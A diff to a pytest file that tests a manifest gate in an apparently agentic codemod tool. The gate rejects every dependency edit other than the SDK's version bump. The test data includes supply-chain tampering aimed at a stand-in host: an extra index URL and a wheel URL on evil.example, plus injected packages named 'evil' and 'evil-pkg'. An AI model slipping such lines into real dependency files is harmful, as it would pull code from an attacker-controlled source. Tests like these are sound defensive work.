@@ -1,4 +1,4 @@
-"""Only the SDK's declaration may change in a dependency manifest; any other dependency edit is refused."""
+"""Dependency files must hold exactly what the SDK's bump makes of them; any other dependency edit fails."""
 
 from __future__ import annotations
 
@@ -7,12 +7,15 @@ from pathlib import Path
 
 import pytest
 
+from agentic_codemod.adapters import get_adapter
+from agentic_codemod.models import Dependency
 from agentic_codemod.tools.trace import Trace
-from agentic_codemod.workflow.gates import changed_paths
-from agentic_codemod.workflow.manifest_gate import manifest_gate, name_pattern
+from agentic_codemod.workflow.gates import GateResult, changed_paths
+from agentic_codemod.workflow.manifest_gate import manifest_gate
 
 REQUIREMENTS = "# runtime\nacme-sdk==1.4.0  # pinned\nrequests==2.31.0\n"
 PYPROJECT = '[project]\nname = "x"\ndependencies = [\n  "acme_sdk>=1.2,<2",\n  "httpx>=0.27",\n]\n'
+ADAPTER = get_adapter("python")
 
 
 @pytest.fixture
@@ -31,52 +34,68 @@ def repo(tmp_path: Path) -> Path:
     return root
 
 
-def gate(repo: Path, trace: Trace | None = None):  # type: ignore[no-untyped-def]
-    changes = changed_paths(repo, "HEAD")
-    return manifest_gate(
-        repo,
-        "HEAD",
-        changes,
-        ["requirements.txt", "pyproject.toml"],
-        "acme-sdk",
-        lockfiles=("poetry.lock",),
-        trace=trace,
-    )
+def bumped() -> dict[str, str]:
+    """What the adapter's bump makes of each file (what the pipeline passes as `expected`)."""
+    req = Dependency(name="acme-sdk", specifier="==1.4.0", file="requirements.txt", kind="requirements")
+    pep = Dependency(name="acme_sdk", specifier=">=1.2,<2", file="pyproject.toml", kind="pep621")
+    return {
+        "requirements.txt": ADAPTER.update_dependency(REQUIREMENTS, req, "2.1.0"),
+        "pyproject.toml": ADAPTER.update_dependency(PYPROJECT, pep, "2.1.0"),
+    }
 
 
-def test_bumping_only_the_sdk_passes(repo: Path) -> None:
-    (repo / "requirements.txt").write_text(REQUIREMENTS.replace("1.4.0", "2.1.0"))
-    (repo / "pyproject.toml").write_text(PYPROJECT.replace(">=1.2,<2", ">=2.1.0,<3"))
+def gate(repo: Path, trace: Trace | None = None) -> GateResult:
+    return manifest_gate(repo, changed_paths(repo, "HEAD"), bumped(), lockfiles=("poetry.lock",), trace=trace)
+
+
+def test_the_bump_itself_passes(repo: Path) -> None:
+    for path, text in bumped().items():
+        (repo / path).write_text(text)
     (repo / "poetry.lock").write_text("# lock refreshed by poetry\n")
+    assert "acme-sdk==2.1.0  # pinned" in (repo / "requirements.txt").read_text()
     assert gate(repo).passed
 
 
 @pytest.mark.parametrize(
     ("path", "edit", "expected"),
     [
-        ("requirements.txt", lambda t: t + "leftpad==1.0\n", "beyond acme-sdk in requirements.txt: leftpad"),
-        ("requirements.txt", lambda t: t.replace("requests==2.31.0", "requests==2.0.0"), "requests"),
-        ("requirements.txt", lambda t: t.replace("requests==2.31.0\n", ""), "requests==2.31.0"),
-        (
-            "pyproject.toml",
-            lambda t: t.replace('  "httpx>=0.27",\n', '  "httpx>=0.27",\n  "evil",\n'),
-            "evil",
-        ),
+        ("requirements.txt", lambda t: t + "leftpad==1.0\n", "+ leftpad==1.0"),
+        ("requirements.txt", lambda t: t.replace("requests==2.31.0", "requests==2.0.0"), "requests==2.0.0"),
+        ("requirements.txt", lambda t: t.replace("requests==2.31.0\n", ""), "- requests==2.31.0"),
         (
             "requirements.txt",
             lambda t: t + "--extra-index-url https://evil.example/simple\n",
             "extra-index-url",
         ),
+        (
+            "requirements.txt",
+            lambda t: t.replace("acme-sdk==2.1.0", "acme-sdk @ https://evil.example/acme_sdk-2.1.0.whl"),
+            "evil.example",
+        ),
+        (
+            "pyproject.toml",
+            lambda t: t.replace('"acme_sdk>=2.1.0,<3"', '"acme_sdk>=2.1.0,<3", "evil-pkg>=0"'),
+            "evil-pkg",
+        ),
+        ("pyproject.toml", lambda t: t.replace('"httpx>=0.27",\n', '"httpx>=0.27",\n  "evil",\n'), "evil"),
     ],
-    ids=["new-requirement", "re-pinned-other", "removed-other", "new-pep621-dependency", "new-index"],
+    ids=[
+        "new-requirement",
+        "re-pinned-other",
+        "removed-other",
+        "new-index",
+        "url-instead-of-version",
+        "new-dependency-on-the-sdk-line",
+        "new-pep621-dependency",
+    ],
 )
-def test_other_dependency_edits_are_refused(repo: Path, path: str, edit, expected: str) -> None:  # type: ignore[no-untyped-def]
-    target = repo / path
-    target.write_text(edit(target.read_text()))
+def test_any_other_dependency_edit_is_refused(repo: Path, path: str, edit, expected: str) -> None:  # type: ignore[no-untyped-def]
+    for name, text in bumped().items():
+        (repo / name).write_text(edit(text) if name == path else text)
     trace = Trace(None)
     result = gate(repo, trace)
     assert not result.passed
-    assert any(expected in f.message for f in result.findings)
+    assert any(expected in f.message and f.path == path for f in result.findings), result.findings
     line = trace.lines()[-1]
     assert line["decision"] == "refused" and line["tool"] == "manifest_gate"
 
@@ -85,11 +104,5 @@ def test_new_and_deleted_manifests_are_refused(repo: Path) -> None:
     (repo / "requirements-extra.txt").write_text("acme-sdk==2.1.0\n")
     (repo / "pyproject.toml").unlink()
     messages = [f.message for f in gate(repo).findings]
-    assert "new dependency manifest: requirements-extra.txt" in messages
+    assert "dependency manifest added: requirements-extra.txt" in messages
     assert "dependency manifest deleted: pyproject.toml" in messages
-
-
-def test_name_normalisation() -> None:
-    pattern = name_pattern("acme-sdk")
-    assert all(pattern.search(s) for s in ("acme-sdk==2", "acme_sdk>=1", "Acme.SDK"))
-    assert not pattern.search("acmesdk==1")
